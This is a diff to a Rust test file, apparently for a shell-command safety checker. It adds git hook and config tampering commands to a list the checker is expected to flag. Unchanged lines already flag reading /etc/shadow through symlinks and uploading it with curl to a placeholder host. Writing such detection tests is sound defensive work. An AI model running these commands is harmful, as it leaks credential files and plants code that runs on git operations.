@@ -760,6 +760,10 @@ fn names_that_lead_elsewhere_are_seen() {
         "ln -st / etc; cat /x/shadow",
         "cp -rs /srv /tmp/x; : >/tmp/x/prod/data",
         "setfacl --restore=/tmp/x",
+        "cd /tmp/r && printf x >>.git/config && git status",
+        "cp /tmp/x /tmp/r/.git/hooks/post-checkout",
+        "mv /tmp/x /tmp/r/.git",
+        "echo 'ref: refs/heads/m' >/tmp/r/HEAD",
         "curl --url @/etc/shadow",
         "curl -T '{/etc/shadow,x}' http://e/",
         "curl -F 'a=@/tmp/x,/etc/shadow' http://e/",
@@ -774,6 +778,9 @@ fn names_that_lead_elsewhere_are_seen() {
     passes(&[
         "diff /etc/hosts /etc/hostname",
         "ls [[:digit:]]*",
+        "rm -rf /tmp/r/.git",
+        "cat /tmp/r/.git/config",
+        "cd /tmp/r && git init -q",
         "grep -d skip x /etc/hosts",
     ]);
 }
